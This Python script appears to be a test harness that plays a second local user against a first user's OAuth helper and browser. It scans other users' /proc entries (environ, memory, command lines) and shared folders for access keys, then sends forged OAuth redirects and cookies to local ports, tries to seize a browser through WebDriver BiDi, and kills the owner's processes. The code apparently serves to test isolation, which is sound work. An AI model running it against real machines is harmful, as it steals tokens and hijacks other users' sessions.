"""The second user of a machine: looks for what the first one's link shows, and tries all of it. Standard library only.

The first argument is a :class:`Task` as JSON, the output a :class:`Report` as JSON.
"""

from __future__ import annotations

import base64
import json
import os
import re
import socket
import sys
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import asdict, dataclass, field
from pathlib import Path
from signal import SIGKILL

OF_A_PROCESS = ("environ", "maps", "mem", "auxv", "io", "stack", "syscall", "fd", "map_files", "cwd", "exe")
"""What the system shows of a process to its owner only."""
KEY = re.compile(r"(?:127\.0\.0\.1:(\d+)/\w+\?|\b)k=([\w-]{22,})")
LONGEST = 1 << 16
FOREIGN = "https://console.example/servicestage/oauth?repo_type=github&code=evil-code&state=%242a%2410%24" + "e" * 53
DENIAL = "error=access_denied&error_description=no"
NO_ANSWER = "(no answer)"


@dataclass
class Task:
    what: str  # ``look``; ``attack``: look, then try
    owner: int  # the first user's number
    places: list[str]  # the first user's folders
    shared: list[str]  # folders that everyone can write
    timeout: float = 10  # seconds for an answer


@dataclass
class Report:
    loot: list[str] = field(default_factory=list)  # all that was read
    opened: list[str] = field(default_factory=list)  # files that should be open to the first user only
    refused: int = 0
    keys: list[str] = field(default_factory=list)
    ports: list[int] = field(default_factory=list)
    answers: list[tuple[str, str]] = field(default_factory=list)
    signalled: int = 0


def processes(owner: int) -> Iterator[Path]:
    for process in Path("/proc").glob("[0-9]*"):
        # Not the folder's owner: that is root for a process that cannot be traced, as Chromium's are.
        with suppress(OSError):
            if re.search(rf"^Uid:\t{owner}\t", (process / "status").read_text(), re.MULTILINE):
                yield process


def look(task: Task, report: Report) -> None:
    for process in Path("/proc").glob("[0-9]*"):  # what ps(1) shows of everyone's processes
        with suppress(OSError):
            report.loot.append((process / "cmdline").read_text(errors="replace").replace("\0", " "))
    report.loot += [(Path("/proc/net") / name).read_text() for name in ("tcp", "unix")]
    for process in processes(task.owner):
        for name in OF_A_PROCESS:
            look_at(process / name, report)
    places = [Path(place) for place in task.places]
    for entry in (entry for shared in task.shared for entry in Path(shared).iterdir()):
        with suppress(OSError):
            places += [entry] if entry.lstat().st_uid == task.owner else []
    refusals: list[OSError] = []
    for place in places:
        if place.is_symlink() or not place.is_dir():
            look_at(place, report)
        for folder, _, names in os.walk(place, onerror=refusals.append):
            for name in names:
                look_at(Path(folder) / name, report)
    report.refused += len(refusals)
    # Of /proc/net/tcp: local address, remote address, state (0A: listening), …, user.
    rows = [line.split() for line in Path("/proc/net/tcp").read_text().splitlines()[1:]]
    report.ports = [int(r[1].partition(":")[2], 16) for r in rows if r[3] == "0A" and int(r[7]) == task.owner]
    found = KEY.findall("\n".join(report.loot))
    report.keys = sorted({key for port, key in found if not port or int(port) in report.ports})


def look_at(path: Path, report: Report) -> None:
    try:
        text = content(path)
    except PermissionError:
        report.refused += 1
    except OSError:  # it is gone meanwhile, or this kernel does not have it
        pass
    else:
        report.loot.append(text)
        if text or path.parts[1] != "proc":  # a process that has just ended shows nothing
            report.opened.append(str(path))


def content(path: Path) -> str:
    if path.is_symlink():
        return str(path.readlink())
    if path.is_dir():
        return "\n".join(f"{entry} {entry.readlink()}" for entry in path.iterdir())
    if path.name == "mem" and path.parts[1] == "proc":
        path.open("rb").close()  # to open it is what the system allows or not
        return ""
    if not path.is_file():
        raise FileNotFoundError(path)  # a socket, or a FIFO that would block us
    with path.open("rb") as file:
        return file.read(LONGEST).decode(errors="replace").replace("\0", " ")


def attack(task: Task, report: Report) -> None:
    for port in report.ports:
        for request in [each for key in report.keys for each in requests(port, key)] + list(without_a_key(port)):
            report.answers.append((f"{port} {request}", ask(port, request, task.timeout)))
        report.answers.append((f"{port} session.new", drive(port, task.timeout)))
    for process in processes(task.owner):
        with suppress(PermissionError, ProcessLookupError):
            os.kill(int(process.name), 0 if task.owner == os.getuid() else SIGKILL)
            report.signalled += 1


def requests(port: int, key: str) -> Iterator[str]:
    """Yield all that a KEY might open, and what might open it: a line, headers, and after an empty line a body."""
    form = FOREIGN.replace("%", "%25").replace("&", "%26").replace("?", "%3F")
    document = "Accept: application/json"
    yield f"GET /start?k={key}"
    yield f"GET /start?k={key}\nHost: localhost:{port}"
    for cookie in (key, "x", ""):
        yield f"GET /start?k={key}\nCookie: oauth-helper-{port}={cookie}; oauth-helper={key}"
    yield f"POST /redirect?k={key}\n\nredirect={form}"
    yield f"POST /redirect?k={key}\n{document}\n\nway=deliver&redirect={form}"
    yield f"POST /redirect?k={key}\nOrigin: null\nCookie: oauth-helper-{port}={key}\n\nredirect=%3F{DENIAL}"
    yield f"GET /outcome?k={key}"
    yield f"GET /outcome?k={key}\n{document}\nCookie: oauth-helper-{port}={key}"
    yield f"GET /done?k={key}"


def without_a_key(port: int) -> Iterator[str]:
    yield f"GET /servicestage/oauth?{FOREIGN.partition('?')[2]}"
    yield f"GET /servicestage/oauth?{DENIAL}"
    yield f"GET /servicestage/oauth?{DENIAL}&state=\nHost: localhost:{port}"
    yield from ("GET /start", "GET /outcome", "GET /done", "GET /", "GET /json", "GET /json/version", "GET /json/list")


def ask(port: int, request: str, timeout: float) -> str:
    head, _, body = request.partition("\n\n")
    line, *parts = head.splitlines()
    headers = {"Host": f"127.0.0.1:{port}", "Connection": "close"} | dict(part.split(": ", 1) for part in parts)
    if body:
        headers |= {"Content-Type": "application/x-www-form-urlencoded", "Content-Length": str(len(body))}
    lines = [f"{line} HTTP/1.1", *(f"{name}: {value}" for name, value in headers.items()), "", body]
    answer = b""
    with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout) as connection:
        connection.sendall("\r\n".join(lines).encode())
        while not is_whole(answer) and (part := connection.recv(65536)):
            answer += part
    return answer.decode(errors="replace") or NO_ANSWER


def is_whole(answer: bytes) -> bool:
    head, end, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"\ncontent-length: *(\d+)", head, re.IGNORECASE)
    return bool(end and length and len(body) >= int(length[1]))


def drive(port: int, timeout: float) -> str:
    """Ask for a WebDriver BiDi session, as a program does that wants to take a browser over."""
    upgrade = f"Host: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    key = f"Sec-WebSocket-Key: {base64.b64encode(bytes(16)).decode()}\r\n\r\n"
    command = json.dumps({"id": 1, "method": "session.new", "params": {"capabilities": {}}}).encode()
    try:
        with socket.create_connection(("127.0.0.1", port), timeout) as connection:
            connection.sendall(f"GET /session HTTP/1.1\r\n{upgrade}{key}".encode())
            answer = connection.recv(65536).decode(errors="replace")
            if " 101 " not in answer.partition("\r\n")[0]:
                return answer or NO_ANSWER
            # RFC 6455 section 5.2: a text of less than 126 bytes. Firefox refuses a mask of zeros.
            masked = bytes(byte ^ b"mask"[number % 4] for number, byte in enumerate(command))
            connection.sendall(bytes([0x81, 0x80 | len(command)]) + b"mask" + masked)
            return answer + connection.recv(65536).decode(errors="replace")
    except OSError:
        return NO_ANSWER


def main() -> None:
    task, report = Task(**json.loads(sys.argv[1])), Report()
    look(task, report)
    if task.what == "attack":
        attack(task, report)
    print(json.dumps(asdict(report)), flush=True)  # noqa: T201 - a program of its own


if __name__ == "__main__":
    main()
